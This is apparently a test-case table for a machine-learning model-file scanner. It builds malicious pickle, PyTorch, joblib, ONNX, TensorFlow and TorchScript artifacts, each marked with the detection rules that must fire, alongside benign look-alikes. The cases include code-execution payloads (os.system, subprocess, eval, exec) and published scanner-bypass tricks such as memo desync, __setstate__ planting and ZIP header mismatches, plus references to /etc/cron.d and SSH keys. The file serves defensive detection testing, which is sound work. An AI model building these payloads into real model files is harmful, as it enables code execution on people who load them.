"""The artifact case table: each case builds one file from opcodes and says which ATS-ART rules
must report it (benign look-alikes expect none and name the rules they guard against).

Binary artifacts cannot carry `# expect:` annotations, so this table plays that part;
`COVERAGE` gives the catalog test (vulnerable cases, safe cases) per rule.
"""

from __future__ import annotations

import bz2
import gzip
import importlib.util
import lzma
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import artifact_builder as ab
from artifact_builder import Member, P

ALL_PICKLE = frozenset({"ATS-ART-001", "ATS-ART-002", "ATS-ART-003", "ATS-ART-004"})


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    build: Callable[[], bytes]
    expect: frozenset[str] = frozenset()
    guards: frozenset[str] = frozenset()  # for benign cases: the rules that must stay silent
    names: str = ""  # text some finding's message must contain (the callable or structure)


def _c(name: str, filename: str, build: Callable[[], bytes], *expect: str, guards: frozenset[str] = frozenset(),
       names: str = "") -> Case:
    return Case(name, filename, build, frozenset(expect), guards, names)


def _memo_desync() -> bytes:
    # 'os' and 'system' reach STACK_GLOBAL only through memo slots written by MEMOIZE after BINGET
    p = P(4).s("os").memoize().pop().s("system").memoize().pop()
    p.binget(0).memoize().binget(1).memoize().pop().pop().binget(2).binget(3).raw(b"\x93")
    return p.s("echo atlascan-test").tuple1().reduce().stop().data()


def _computed_module() -> bytes:
    # STACK_GLOBAL(str.lower("OS"), "system"): the module is a call result
    p = P(4).sglob("builtins", "str.lower").s("OS").tuple1().reduce().s("system").raw(b"\x93")
    return p.s("echo atlascan-test").tuple1().reduce().stop().data()


def _inst() -> bytes:
    return b"(S'echo atlascan-test'\nios\nsystem\n."


def _obj() -> bytes:
    return P(2).mark().glob("os", "system").s("echo atlascan-test").raw(b"o").stop().data()


def _newobj_ex() -> bytes:
    p = P(4).sglob("subprocess", "Popen").mark().s("echo").s("atlascan-test").raw(b"l\x85").empty_dict()
    return p.raw(b"\x92").stop().data()


def _nested_load_from_bytes() -> bytes:
    p = P(2).glob("torch.storage", "_load_from_bytes").b(ab.evil(2)).tuple1().reduce()
    return p.stop().data()


def _nested_pickle_loads_proto0() -> bytes:
    return P(2).glob("pickle", "loads").b(ab.evil(0)).tuple1().reduce().stop().data()


def _nested_benign_bytes() -> bytes:
    return P(2).glob("torch.storage", "_load_from_bytes").b(ab.plain_dict(2)).tuple1().reduce().stop().data()


def _corrupt_tail() -> bytes:
    return ab.evil(2)[:-1] + b"\xff"


def _truncated() -> bytes:
    return ab.evil(4)[:-3]


def _huge_length() -> bytes:
    return P(4).raw(b"\x8e" + struct.pack("<Q", 1 << 62) + b"abc").data()


def _ext1() -> bytes:
    return P(2).raw(b"\x82\x07").empty_tuple().reduce().stop().data()


def _dunder_chain() -> bytes:
    return P(4).call1("builtins", "print.__self__.__import__", "os", stack_global=True).stop().data()


def _joblib_evil_after_arrays() -> bytes:
    tail = P(None).glob("os", "system").s("echo atlascan-test").tuple1().reduce().data()
    return ab.joblib_pickle(arrays=2, tail=tail)


def _nested_zip() -> bytes:
    inner = ab.torch_zip(ab.evil(2))
    return ab.zip_bytes([Member("MAR-INF/MANIFEST.json", b"{}"), Member("model.pt", inner)])


def _deep_zip() -> bytes:
    data = ab.plain_dict(2)
    for level in range(9):
        data = ab.zip_bytes([Member(f"level{level}.pkl" if level == 0 else f"level{level}.zip", data)])
    return data


def _keras(layers: list[dict[str, object]]) -> bytes:
    return ab.zip_bytes([
        Member("metadata.json", b'{"keras_version": "3.4.1"}'),
        Member("config.json", ab.keras_config(layers), deflate=True),
        Member("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64),
    ])  # fmt: skip


def _h5(layers: list[dict[str, object]]) -> bytes:
    config = ab.keras_config(layers).replace(b"\n", b"")
    return b"\x89HDF\r\n\x1a\n" + b"\x00" * 200 + config + b"\x00" * 64


def _torchscript() -> bytes:
    data = P(2).glob("__torch__", "Net").empty_tuple().raw(b"\x81").empty_dict().s("sizes")
    data.glob("torch.jit._pickle", "build_intlist").mark().int1(1).int1(2).raw(b"l").tuple1().reduce().setitem().build()
    code = b"class Net(Module):\n  __parameters__ = []\n  def forward(self: __torch__.Net, x: Tensor) -> Tensor:\n    return x\n"
    return ab.zip_bytes([
        Member("net/data.pkl", data.stop().data()),
        Member("net/code/__torch__.py", code),
        Member("net/constants.pkl", P(2).empty_tuple().stop().data()),
        Member("net/version", b"3\n"),
    ])


def _torchscript_exec() -> bytes:
    data = P(2).glob("torch.jit.unsupported_tensor_ops", "execWrapper").s("print(1)").tuple1().reduce()
    return ab.zip_bytes([Member("net/data.pkl", data.stop().data()), Member("net/version", b"3\n")])


def _npz(member: bytes) -> bytes:
    return ab.zip_bytes([Member("weights.npy", ab.npy("<f4", (2,), struct.pack("<2f", 1, 2))), Member("meta.npy", member)])


def _obj_npy() -> bytes:
    return ab.npy("|O", (1,), ab.evil(3))


def _lz4() -> bytes:
    return b"\x04\x22\x4d\x18\x64\x40\xa7" + b"\x00" * 32


def _safetensors_ok() -> bytes:
    return ab.safetensors({"w": ("F32", [2, 2], (0, 16)), "b": ("F16", [2], (16, 20))}, 20)


def _safetensors_bad() -> bytes:
    return ab.safetensors({"w": ("F32", [2, 2], (0, 16)), "b": ("F32", [2], (8, 16))}, 16)


# ---- published bypasses (issue 18): callables denylists forgot, structure and container tricks
def _import_module_getattr() -> bytes:
    p = P(2).glob("builtins", "getattr").glob("importlib", "import_module").s("os").tuple1().reduce()
    return p.s("system").tuple2().reduce().s("echo atlascan-test").tuple1().reduce().stop().data()


def _marshal_function() -> bytes:
    code = P(2).glob("marshal", "loads").b(b"\xe3" + b"\x00" * 40).tuple1().reduce()
    return P(2).glob("types", "FunctionType").raw(code.data()[2:]).empty_dict().tuple2().reduce().empty_tuple().reduce().stop().data()


def _interactive_interpreter() -> bytes:
    return P(2).glob("code", "InteractiveInterpreter").empty_tuple().reduce().stop().data()


def _attrgetter_on_allowed() -> bytes:
    p = P(2).glob("operator", "attrgetter").s("fromkeys").tuple1().reduce()
    return p.glob("collections", "OrderedDict").tuple1().reduce().stop().data()


def _methodcaller_on_allowed() -> bytes:
    p = P(4).sglob("_operator", "methodcaller").s("fromkeys").s("x").tuple2().reduce()
    return p.sglob("collections", "OrderedDict").tuple1().reduce().stop().data()


def _build_on_allowed_class() -> bytes:
    # setattr(collections.OrderedDict, "fromkeys", ...) through BUILD's slot state
    p = P(2).glob("collections", "OrderedDict").none().empty_dict().s("fromkeys").int1(1).setitem().tuple2().build()
    return p.stop().data()


def _build_dunder_setstate() -> bytes:
    # first BUILD plants __setstate__ in the instance dict; the second BUILD would call it
    p = P(2).glob("argparse", "Namespace").empty_tuple().newobj().empty_dict().s("__setstate__")
    p.glob("collections", "OrderedDict").setitem().build().s("echo atlascan-test").build()
    return p.stop().data()


def _pydantic_state(nested_setstate: bool) -> bytes:
    # pydantic v1's __getstate__: {"__dict__": fields, "__fields_set__": ..., "__private_attribute_values__": {}};
    # a `__dict__` that itself carries `__setstate__` plants it like a top-level key would
    p = P(2).glob("argparse", "Namespace").empty_tuple().newobj().empty_dict().s("__dict__").empty_dict()
    p.s("name").s("resnet").setitem()
    if nested_setstate:
        p.s("__setstate__").glob("collections", "OrderedDict").setitem()
    p.setitem().s("__fields_set__").empty_dict().setitem().s("__private_attribute_values__").empty_dict().setitem()
    p.s("__pydantic_extra__").none().setitem().build()
    return p.stop().data()


def _dup_pop_obfuscation() -> bytes:
    p = P(2).raw(b"N0").glob("os", "system").raw(b"2020N0").s("echo atlascan-test").raw(b"2020").tuple1().reduce()
    return p.stop().data()


def _memo_names_proto5() -> bytes:
    # module and name reach STACK_GLOBAL through LONG_BINGET of slots written much earlier
    p = P(5).s("posix").raw(b"r\x10\x00\x00\x00").pop().s("system").raw(b"r\x11\x00\x00\x00").pop()
    p.raw(b"j\x10\x00\x00\x00j\x11\x00\x00\x00\x93")
    return p.s("echo atlascan-test").tuple1().reduce().stop().data()


def _partial_of_computed() -> bytes:
    p = P(2).glob("functools", "partial").glob("collections", "OrderedDict").empty_tuple().reduce().tuple1().reduce()
    return p.stop().data()


def _zip_cd_hides_pickle() -> bytes:
    # CVE-2025-10156 style: the directory names a text member, the local header a pickle
    return ab.zip_bytes([Member("weights/readme.txt", ab.evil(2), local_name="weights/data.pkl"),
                         Member("weights/version", b"3\n")])  # fmt: skip


def _odd_folder_torch_zip() -> bytes:
    return ab.zip_bytes([Member("my model (final)/data.pkl", ab.evil(2)),
                         Member("my model (final)/data/0", b"\x80\x02" + b"\x00" * 30),
                         Member("my model (final)/version", b"3\n")])  # fmt: skip


BYPASSES: list[Case] = [
    _c("runpy-run-code", "runpy.pkl", lambda: ab.evil(2, "runpy", "_run_code", "print(1)"), "ATS-ART-001", names="runpy._run_code"),
    _c("runpy-run-path", "runpy4.pkl", lambda: ab.evil(4, "runpy", "run_path", "x.py"), "ATS-ART-001", names="runpy.run_path"),
    _c("pip-internal-cli", "pipcli.pkl", lambda: ab.evil(4, "pip._internal.cli.main", "main", "install"), "ATS-ART-001",
       names="pip._internal.cli.main.main"),
    _c("pyrepl-pager", "pyrepl.pkl", lambda: ab.evil(4, "_pyrepl.pager", "pipe_pager", "x"), "ATS-ART-001", names="_pyrepl.pager"),
    _c("aix-support-cmd", "aix.pkl", lambda: ab.evil(2, "_aix_support", "_read_cmd_output", "id"), "ATS-ART-001",
       names="_aix_support._read_cmd_output"),
    _c("inductor-codecache", "inductor.pkl", lambda: ab.evil(4, "torch._inductor.codecache", "compile_file"), "ATS-ART-001",
       names="torch._inductor.codecache"),
    _c("dynamo-guards", "guards.pkl", lambda: ab.evil(4, "torch._dynamo.guards", "GuardBuilder"), "ATS-ART-001",
       names="torch._dynamo.guards"),
    _c("numpy-f2py", "f2py.pkl", lambda: ab.evil(2, "numpy.f2py.crackfortran", "myeval", "1"), "ATS-ART-001", names="numpy.f2py"),
    _c("asyncio-subprocess-transport", "aiosub.pkl", lambda: ab.evil(2, "asyncio.base_subprocess", "BaseSubprocessTransport"),
       "ATS-ART-001", names="asyncio.base_subprocess"),
    _c("fx-graph-module-source", "fx.pt",
       lambda: ab.torch_zip(P(2).glob("torch.fx.graph_module", "reduce_graph_module").empty_dict().s("import os").tuple2()
                            .reduce().stop().data()), "ATS-ART-001", names="torch.fx.graph_module.reduce_graph_module"),
    _c("site-addsitedir", "site.pkl", lambda: ab.evil(4, "site", "addsitedir", "/tmp"), "ATS-ART-001", names="site.addsitedir"),
    _c("import-module-getattr", "imp.pkl", _import_module_getattr, "ATS-ART-001", names="importlib.import_module"),
    _c("marshal-function-type", "marshal.pkl", _marshal_function, "ATS-ART-001", names="marshal.loads"),
    _c("code-interactive-interpreter", "repl.pkl", _interactive_interpreter, "ATS-ART-001", names="code.InteractiveInterpreter"),
    _c("pydoc-pipepager", "pager.pkl", lambda: ab.evil(2, "pydoc", "pipepager", "text"), "ATS-ART-001", names="pydoc.pipepager"),
    _c("ctypes-cdll", "ctypes.pkl", lambda: ab.evil(2, "ctypes", "CDLL", "libc.so.6"), "ATS-ART-001", names="ctypes.CDLL"),
    _c("attrgetter-on-allowed", "attr.pkl", _attrgetter_on_allowed, "ATS-ART-001", names="operator.attrgetter"),
    _c("methodcaller-on-allowed", "method.pkl", _methodcaller_on_allowed, "ATS-ART-001", names="_operator.methodcaller"),
    _c("build-on-allowed-class", "build.pkl", _build_on_allowed_class, "ATS-ART-001", names="BUILD on collections.OrderedDict"),
    _c("build-plants-setstate", "setstate.pkl", _build_dunder_setstate, "ATS-ART-001", names="BUILD setting `__setstate__`"),
    _c("build-data-key-plants-setstate", "pyd_setstate.pkl", lambda: _pydantic_state(True), "ATS-ART-001",
       names="BUILD setting `__setstate__`"),
    _c("nested-c-pickle-loads", "cloads.pkl", lambda: P(2).glob("_pickle", "loads").b(ab.evil(4, "posix")).tuple1().reduce().stop().data(),
       "ATS-ART-001", names="posix.system"),
    _c("dup-pop-obfuscation", "duppop.pkl", _dup_pop_obfuscation, "ATS-ART-001", names="os.system"),
    _c("memo-names-proto5", "memo5.pkl", _memo_names_proto5, "ATS-ART-001", names="posix.system"),
    _c("extension-code-ext2", "ext2.pkl", lambda: P(2).raw(b"\x83\x07\x01").empty_tuple().reduce().stop().data(), "ATS-ART-002",
       names="copyreg extension code 263"),
    _c("extension-code-ext4", "ext4.pkl", lambda: P(2).raw(b"\x84\x07\x00\x01\x00").empty_tuple().reduce().stop().data(),
       "ATS-ART-002", names="copyreg extension code 65543"),
    _c("partial-of-denied", "partial_os.pkl", lambda: ab.partial_of("os", "system"), "ATS-ART-001", names="os.system"),
    _c("partial-state-swaps-callable", "partial_swap.pkl",
       lambda: ab.partial_of("sklearn.metrics._classification", "fbeta_score", state_func=("posix", "system")), "ATS-ART-001",
       names="posix.system"),
    _c("partial-of-computed", "partial_call.pkl", _partial_of_computed, "ATS-ART-002", names="functools.partial wrapping"),
    _c("training-args-called", "training_args.bin",
       lambda: ab.torch_zip(P(2).glob("transformers.training_args", "TrainingArguments").s("out").tuple1().reduce().stop().data()),
       "ATS-ART-002", names="TrainingArguments called with arguments"),
    _c("training-args-reconstructor-base", "targs0.bin",
       lambda: (b"ccopy_reg\n_reconstructor\n(ctransformers.training_args\nTrainingArguments\n"
                b"ctransformers.training_args\nTrainingArguments\nS'out'\ntR."), "ATS-ART-002", names="runs its __init__"),
    _c("partial-never-applied", "partial_bare.pkl", lambda: P(2).glob("functools", "partial").stop().data(), "ATS-ART-002",
       names="functools.partial"),
    _c("zip-directory-hides-pickle", "weights.zip", _zip_cd_hides_pickle, "ATS-ART-001", "ATS-ART-005", names="local header"),
    _c("zip-local-crc-disagrees", "crc2.pt", lambda: ab.torch_zip(ab.evil(2), local_crc=0), "ATS-ART-001", "ATS-ART-005",
       names="disagree on its CRC"),
    _c("ext-ckpt-torch-zip", "last.ckpt", lambda: ab.torch_zip(ab.evil(4)), "ATS-ART-001", names="os.system"),
    _c("ext-pth-tar", "checkpoint.pth.tar", lambda: ab.evil(2, "posix"), "ATS-ART-001", names="posix.system"),
    _c("ext-pickle-named-safetensors", "model.safetensors", lambda: ab.evil(4), "ATS-ART-001", names="os.system"),
    _c("ext-torch-zip-named-safetensors", "model-00001.safetensors", lambda: ab.torch_zip(ab.evil(2)), "ATS-ART-001",
       names="os.system"),
    _c("ext-none-proto2", "pytorch_model", lambda: ab.evil(2, "subprocess", "call"), "ATS-ART-001", names="subprocess.call"),
    _c("torch-zip-odd-folder", "odd.pt", _odd_folder_torch_zip, "ATS-ART-001", names="my model (final)/data.pkl"),
]

BENIGN_VALUES: list[Case] = [
    _c("lightning-ckpt-namespace", "epoch=3.ckpt", lambda: ab.torch_zip(ab.lightning_checkpoint()),
       guards=ALL_PICKLE | {"ATS-ART-005"}),
    _c("lightning-ckpt-attributedict", "last.ckpt", lambda: ab.torch_zip(ab.lightning_checkpoint("attributedict")),
       guards=ALL_PICKLE | {"ATS-ART-005"}),
    _c("namespace-proto0-reconstructor", "hparams.pkl", ab.namespace_proto0, guards=ALL_PICKLE),
    _c("pydantic-state-keys", "metadata.pkl", lambda: _pydantic_state(False), guards=ALL_PICKLE),
    _c("run-metadata-proto2", "meta2.pkl", lambda: ab.run_metadata(2), guards=ALL_PICKLE),
    _c("run-metadata-proto4", "meta4.pkl", lambda: ab.run_metadata(4), guards=ALL_PICKLE),
    _c("hf-training-args", "training_args.bin", ab.training_args, guards=ALL_PICKLE | {"ATS-ART-005"}),
    _c("partial-of-allowed", "transformer.pkl", lambda: ab.partial_of("sklearn.metrics._classification", "fbeta_score"),
       guards=ALL_PICKLE),
]


# ---- formats that carry code without a pickle (issue 18)
def _pyfunc_saved_model() -> bytes:
    return ab.saved_model([ab.tf_node("x", "Placeholder"), ab.tf_node("py", "EagerPyFunc", ("x",))])


def _pyfunc_in_function() -> bytes:
    return ab.saved_model([ab.tf_node("x", "Placeholder")], [[ab.tf_node("f", "PyFunc", ("x",))]])


def _write_file_graph() -> bytes:
    # a frozen GraphDef (no SavedModel wrapper): 1 node per field 1
    nodes = [ab.tf_node("path", "Const", const="/tmp/atlascan-test"), ab.tf_node("w", "WriteFile", ("path", "path"))]
    return b"".join(ab.pb(1, n) for n in nodes)


def _absolute_save() -> bytes:
    nodes = [ab.tf_node("save/Const", "Const", const="/etc/cron.d/atlascan-test"),
             ab.tf_node("save/SaveV2", "SaveV2", ("save/Const", "save/names"))]  # fmt: skip
    return ab.saved_model(nodes)


def _keras_metadata_lambda() -> bytes:
    return ab.keras_metadata([ab.DENSE, {"class_name": "Lambda", "config": {"name": "l", "function": "4wEAAAAA"}}])


def _relative_save_const() -> bytes:
    nodes = [ab.tf_node("save/Const", "Const", const="model"), ab.tf_node("save/SaveV2", "SaveV2", ("save/Const:0",))]
    return ab.saved_model(nodes)


def _torchscript_os() -> bytes:
    return ab.torchscript_archive(ab.TS_CODE.replace(b"    return torch.relu", b"    _1 = os.system(\"echo atlascan-test\")\n    return torch.relu"))


def _torchscript_custom_op() -> bytes:
    return ab.torchscript_archive(ab.TS_CODE.replace(b"torch.relu(", b"ops.evil_ns.run("))


def _torchscript_evil_constants() -> bytes:
    return ab.torchscript_archive(constants=ab.evil(2))


def _pt2(state_dict: bytes, extra: list[Member] | None = None) -> bytes:
    """A torch.export .pt2 archive: JSON program, torch.save'd state dict, raw weights."""
    return ab.zip_bytes([
        Member("model/serialized_exported_program.json", b'{"graph_module": {"graph": {"nodes": []}}}'),
        Member("model/serialized_state_dict.pt", ab.torch_zip(state_dict)),
        Member("model/version", b"1\n"),
        *(extra or []),
    ])  # fmt: skip


def _onnx_subgraph_custom() -> bytes:
    # an If node whose then_branch graph (attribute g) holds a node from a custom domain
    inner = ab.pb(1, ab.pb(4, "Exec") + ab.pb(7, "com.attacker.ops")) + ab.pb(2, "then")
    node = ab.pb(4, "If") + ab.pb(5, ab.pb(1, "then_branch") + ab.pb(6, inner) + ab.pb(20, 5))
    return ab.pb(1, 8) + ab.pb(7, ab.pb(1, node) + ab.pb(2, "main"))


def _onnx_constant_external() -> bytes:
    # a Constant node's tensor attribute (t) whose data lives in an external file
    tensor = ab.pb(8, "c") + ab.pb(13, ab.pb(1, "location") + ab.pb(2, "/root/.ssh/id_rsa")) + ab.pb(14, 1)
    node = ab.pb(4, "Constant") + ab.pb(5, ab.pb(1, "value") + ab.pb(5, tensor) + ab.pb(20, 4))
    return ab.pb(1, 8) + ab.pb(7, ab.pb(1, node) + ab.pb(2, "main"))


FORMATS: list[Case] = [
    _c("pt2-evil-state-dict", "model.pt2", lambda: _pt2(ab.evil(4)), "ATS-ART-001", names="serialized_state_dict.pt"),
    _c("pt2-aoti-shared-object", "aoti.pt2",
       lambda: _pt2(ab.torch_state_dict_pickle(), [Member("model/data/aotinductor/model.so", ab.elf_header())]), "ATS-ART-011",
       names="model.so"),
    _c("pt2-benign", "good.pt2", lambda: _pt2(ab.torch_state_dict_pickle()), guards=ALL_PICKLE | {"ATS-ART-005", "ATS-ART-011"}),
    _c("joblib-lzma-alone", "model.joblib", lambda: lzma.compress(ab.evil(4), format=lzma.FORMAT_ALONE), "ATS-ART-001",
       names="os.system"),
    _c("joblib-xz", "clf.joblib", lambda: lzma.compress(ab.evil(2, "posix")), "ATS-ART-001", names="posix.system"),
    _c("savedmodel-eager-pyfunc", "saved_model.pb", _pyfunc_saved_model, "ATS-ART-011", names="EagerPyFunc"),
    _c("savedmodel-pyfunc-in-function", "saved_model.pb", _pyfunc_in_function, "ATS-ART-011", names="PyFunc"),
    _c("frozen-graph-write-file", "frozen_graph.pb", _write_file_graph, "ATS-ART-011", names="WriteFile"),
    _c("savedmodel-absolute-save", "saved_model.pb", _absolute_save, "ATS-ART-011", names="/etc/cron.d/atlascan-test"),
    _c("savedmodel-corrupt", "saved_model.pb", lambda: ab.saved_model([ab.tf_node("x", "Relu")])[:-3], "ATS-ART-004"),
    _c("keras-metadata-lambda", "keras_metadata.pb", _keras_metadata_lambda, "ATS-ART-006", names="Lambda"),
    _c("torchscript-calls-os", "scripted_os.pt", _torchscript_os, "ATS-ART-011", names="os.system"),
    _c("torchscript-custom-op", "scripted_op.pt", _torchscript_custom_op, "ATS-ART-011", names="evil_ns"),
    _c("torchscript-constants-pickle", "scripted_const.pt", _torchscript_evil_constants, "ATS-ART-001", names="constants.pkl"),
    _c("mar-handler-shell-at-import", "clf.mar", lambda: ab.mar(ab.HANDLER_SHELL), "ATS-ART-011", names="os.system` at import"),
    _c("mar-with-evil-model", "clf2.mar", lambda: ab.mar(ab.HANDLER_OK, ab.torch_zip(ab.evil(2))), "ATS-ART-001",
       names="model.pt!archive/data.pkl"),
    _c("onnx-subgraph-custom-domain", "loop.onnx", _onnx_subgraph_custom, "ATS-ART-011", names="com.attacker.ops"),
    _c("onnx-node-constant-external", "const.onnx", _onnx_constant_external, "ATS-ART-010", names="/root/.ssh/id_rsa"),
    _c("onnx-custom-domain", "custom.onnx", lambda: ab.onnx_model([("Conv", ""), ("Exec", "com.attacker.ops")]), "ATS-ART-011",
       names="com.attacker.ops"),
    _c("elf-named-bin", "pytorch_model.bin", ab.elf_header, "ATS-ART-011", names="ELF"),
    _c("llamafile-named-gguf", "model.gguf", ab.llamafile_header, "ATS-ART-011", names="llamafile"),
    _c("nemo-hydra-target", "asr.nemo", lambda: ab.nemo(ab.NEMO_CONFIG_EVIL, ab.torch_zip(ab.torch_state_dict_pickle())),
       "ATS-ART-011", names="subprocess.check_output"),
    _c("nemo-evil-weights", "asr2.nemo", lambda: ab.nemo(ab.NEMO_CONFIG_OK, ab.torch_zip(ab.evil(2))), "ATS-ART-001",
       names="model_weights.ckpt"),
    # not scanned without the optional py7zr; with it, these bytes do not unpack
    _c("seven-zip-not-scanned", "model.7z.bin", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64,
       "ATS-ART-007" if importlib.util.find_spec("py7zr") is None else "ATS-ART-004", names="7z"),
    # benign look-alikes of each format
    _c("joblib-lzma-benign", "good_lzma.joblib", lambda: lzma.compress(ab.joblib_pickle(2), format=lzma.FORMAT_ALONE),
       guards=ALL_PICKLE | {"ATS-ART-007"}),
    _c("joblib-xz-benign", "good_xz.joblib", lambda: lzma.compress(ab.sklearn_estimator_pickle()), guards=ALL_PICKLE),
    _c("savedmodel-math-only", "saved_model.pb", ab.math_saved_model, guards=frozenset({"ATS-ART-011", "ATS-ART-004"})),
    _c("savedmodel-relative-save", "saved_model.pb", _relative_save_const, guards=frozenset({"ATS-ART-011", "ATS-ART-004"})),
    _c("keras-metadata-dense", "keras_metadata.pb", lambda: ab.keras_metadata([ab.DENSE]), guards=frozenset({"ATS-ART-006"})),
    _c("torchscript-plain-module", "scripted_ok.pt", ab.torchscript_archive,
       guards=ALL_PICKLE | {"ATS-ART-005", "ATS-ART-011"}),
    _c("torchscript-torchvision-op", "scripted_nms.pt",
       lambda: ab.torchscript_archive(ab.TS_CODE.replace(b"torch.relu(", b"ops.torchvision.nms(")),
       guards=frozenset({"ATS-ART-011"})),
    _c("mar-harmless-handler", "good.mar", lambda: ab.mar(ab.HANDLER_OK), guards=ALL_PICKLE | {"ATS-ART-011", "ATS-ART-005"}),
    _c("onnx-standard-domains", "std.onnx",
       lambda: ab.onnx_model([("Conv", ""), ("FusedMatMul", "com.microsoft"), ("LinearRegressor", "ai.onnx.ml"),
                              ("Gelu", "custom.local")], [("custom.local", [("Erf", "")])]),
       guards=frozenset({"ATS-ART-011", "ATS-ART-010"})),
    _c("weights-starting-mz", "weights.bin", lambda: b"MZ" + b"\x00" * 300, guards=frozenset({"ATS-ART-011"} | ALL_PICKLE)),
    _c("nemo-benign", "good.nemo", lambda: ab.nemo(ab.NEMO_CONFIG_OK, ab.torch_zip(ab.torch_state_dict_pickle())),
       guards=ALL_PICKLE | {"ATS-ART-011", "ATS-ART-005"}),
]


SSTI = "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}"
CHAT = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"

CASES: list[Case] = [
    # ---- pickle protocols and opcode tricks
    _c("proto0-os-system", "evil0.pkl", lambda: ab.evil(0), "ATS-ART-001"),
    _c("proto1-posix-system", "evil1.pkl", lambda: ab.evil(1, "posix"), "ATS-ART-001"),
    _c("proto2-builtins-eval", "evil2.pkl", lambda: ab.evil(2, "builtins", "eval", "print(1)"), "ATS-ART-001"),
    _c("proto3-subprocess", "evil3.pickle", lambda: ab.evil(3, "subprocess", "check_output"), "ATS-ART-001"),
    _c("proto4-stack-global", "evil4.pkl", lambda: ab.evil(4, "posix"), "ATS-ART-001"),
    _c("proto5-exec", "evil5.pkl", lambda: ab.evil(5, "builtins", "exec", "print(1)"), "ATS-ART-001"),
    _c("dotted-name-through-pathlib", "dotted.pkl", lambda: ab.evil(4, "pathlib", "os.system"), "ATS-ART-001"),
    _c("dunder-chain-under-builtins", "dunder.pkl", _dunder_chain, "ATS-ART-001"),
    _c("torch-hub-dotted", "hub.pkl", lambda: ab.evil(4, "torch", "hub.load", "attacker/repo"), "ATS-ART-001"),
    _c("pip-main", "pip.pkl", lambda: ab.evil(2, "pip", "main", "install"), "ATS-ART-001"),
    _c("asyncio-submodule", "aio.pkl", lambda: ab.evil(2, "asyncio.unix_events", "_UnixSubprocessTransport"), "ATS-ART-001"),
    _c("memo-desync", "memo.pkl", _memo_desync, "ATS-ART-001"),
    _c("computed-stack-global", "computed.pkl", _computed_module, "ATS-ART-002", "ATS-ART-003"),
    _c("inst-call", "inst.pkl", _inst, "ATS-ART-001"),
    _c("obj-call", "obj.pkl", _obj, "ATS-ART-001"),
    _c("newobj-ex-popen", "newobj.pkl", _newobj_ex, "ATS-ART-001"),
    _c("nested-load-from-bytes", "nested.pt", _nested_load_from_bytes, "ATS-ART-001"),
    _c("nested-pickle-loads-proto0", "loads.pkl", _nested_pickle_loads_proto0, "ATS-ART-001"),
    _c("second-stream", "stacked.pkl", lambda: ab.plain_dict(2) + ab.evil(2), "ATS-ART-001"),
    _c("corrupt-tail", "tail.pkl", _corrupt_tail, "ATS-ART-001", "ATS-ART-004"),
    _c("truncated-stream", "cut.pkl", _truncated, "ATS-ART-001", "ATS-ART-004"),
    _c("huge-declared-length", "huge.pkl", _huge_length, "ATS-ART-004"),
    _c("unknown-class", "custom.pkl", lambda: ab.evil(2, "mypkg.models", "Net"), "ATS-ART-002"),
    _c("extension-registry", "ext.pkl", _ext1, "ATS-ART-002"),
    _c("cloudpickle-function", "fn.pkl", lambda: ab.evil(2, "cloudpickle.cloudpickle", "_make_function"), "ATS-ART-001"),
    _c("transformers-indirect-load", "tok.pkl", lambda: ab.evil(4, "transformers", "AutoTokenizer.from_pretrained"), "ATS-ART-001"),
    # ---- plain pickles under other names, and sniffed without a name
    _c("pickle-named-bin", "pytorch_model.bin", lambda: ab.evil(2), "ATS-ART-001"),
    _c("proto0-named-pt", "weights.pt", lambda: ab.evil(0), "ATS-ART-001"),
    _c("pickle-named-model", "clf.model", lambda: ab.evil(2), "ATS-ART-001"),
    _c("pickle-without-extension", "model_weights", lambda: ab.evil(4), "ATS-ART-001"),
    # ---- PyTorch containers
    _c("torch-zip", "model.pt", lambda: ab.torch_zip(ab.evil(2)), "ATS-ART-001"),
    _c("torch-zip-renamed-proto0-member", "renamed.pt",
       lambda: ab.torch_zip(ab.torch_state_dict_pickle(), [Member("archive/data.txt", ab.evil(0))]), "ATS-ART-001"),
    _c("torch-zip-encrypted-flag", "flag.pt", lambda: ab.torch_zip(ab.evil(2), encrypted_flag=True), "ATS-ART-001", "ATS-ART-005"),
    _c("torch-zip-bad-crc", "crc.pt", lambda: ab.torch_zip(ab.evil(2), bad_crc=True), "ATS-ART-001", "ATS-ART-005"),
    _c("torch-zip-name-mismatch", "names.pt",
       lambda: ab.torch_zip(ab.evil(2), local_name="archive/data.pkx"), "ATS-ART-001", "ATS-ART-005"),
    _c("torch-zip-deflated", "deflated.pth", lambda: ab.torch_zip(ab.evil(4), deflate=True), "ATS-ART-001"),
    _c("zip-without-central-directory", "nocd.pt",
       lambda: ab.zip_bytes([Member("archive/data.pkl", ab.evil(2))], central=False), "ATS-ART-001", "ATS-ART-004"),
    _c("legacy-torch-stacked", "legacy.pt", lambda: ab.legacy_torch(ab.evil(2)), "ATS-ART-001"),
    _c("legacy-torch-tar", "legacy_tar.pt",
       lambda: ab.tar_bytes({"sys_info": ab.plain_dict(2), "pickle": ab.evil(2), "storages": ab.plain_dict(2)}), "ATS-ART-001"),
    _c("nested-torch-zip-in-mar", "handler.mar", _nested_zip, "ATS-ART-001"),
    _c("torchscript-exec-wrapper", "scripted_evil.pt", _torchscript_exec, "ATS-ART-001"),
    _c("nesting-too-deep", "deep.zip", _deep_zip, "ATS-ART-007"),
    # ---- joblib and compressed wrappers
    _c("joblib-zlib", "model.joblib", lambda: zlib.compress(ab.evil(4), 3), "ATS-ART-001"),
    _c("joblib-arrays-then-payload", "arrays.joblib", _joblib_evil_after_arrays, "ATS-ART-001"),
    _c("joblib-object-array", "objarr.joblib", lambda: ab.joblib_pickle(1, object_array=ab.evil(2)), "ATS-ART-001"),
    _c("pkl-gz", "model.pkl.gz", lambda: gzip.compress(ab.evil(2)), "ATS-ART-001"),
    _c("pkl-bz2", "model.pkl.bz2", lambda: bz2.compress(ab.evil(2)), "ATS-ART-001"),
    _c("pkl-xz", "model.pkl.xz", lambda: lzma.compress(ab.evil(2)), "ATS-ART-001"),
    _c("corrupt-gzip", "broken.pkl.gz", lambda: gzip.compress(ab.evil(2))[:12] + b"\xff" * 40, "ATS-ART-004"),
    _c("lz4-without-package", "model.pkl.lz4", _lz4, "ATS-ART-007"),
    # ---- NumPy
    _c("npy-object-array", "obj.npy", _obj_npy, "ATS-ART-001"),
